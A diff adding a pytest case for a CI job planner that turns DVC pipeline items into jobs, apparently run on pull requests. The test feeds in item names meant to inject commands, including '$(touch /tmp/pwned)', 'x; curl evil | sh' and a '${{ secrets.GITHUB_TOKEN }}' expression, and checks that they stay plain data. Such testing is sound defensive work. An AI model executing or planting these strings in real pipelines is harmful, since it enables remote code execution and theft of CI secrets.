@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import json
 import posixpath
+import re
 from collections.abc import Iterable, Mapping, Sequence
 
 import pytest
@@ -384,6 +385,25 @@ def test_targets_of_a_job_round_trip() -> None:
     for bad in ("[", "[]", '{"targets": "x"}', '{"targets": [""]}', '{"targets": ["a\\u0000b"]}'):
         with pytest.raises(PlanError):
             targets_of(bad)
+
+
+def test_hostile_item_names_stay_data_in_ids_targets_and_outputs() -> None:
+    """A pull request's dvc.yaml chooses the item names. They become a job's display name and its
+    artifact's name only through the id (``[A-Za-z0-9._-]``), and reach `dvc repro` only as the exact
+    target strings of a NUL-separated file; a `${{ }}` in an output is never evaluated again."""
+    hostile = ["$(touch /tmp/pwned)", "x; curl evil | sh", "${{ secrets.GITHUB_TOKEN }}", "a\nb", "ü 🚀"]
+    facts = repo(
+        stage("prepare", ["data/raw.csv"], ["data/prepared"]),
+        *items("train", hostile, extra_deps=["data/prepared"]),
+    )
+    result = make(facts)
+    assert len(result.fan) == len(hostile)
+    for job in result.fan:
+        assert re.fullmatch(r"[A-Za-z0-9._-]{1,64}", job.id), job.id
+        assert targets_of(json.dumps(job.to_json())) == job.targets
+    assert sorted(t for job in result.fan for t in job.targets) == sorted(f"train@{n}" for n in hostile)
+    for value in result.outputs().values():
+        assert "\n" not in value  # one line each in $GITHUB_OUTPUT
 
 
 def test_ids_are_safe_unique_and_never_a_tier_name() -> None:
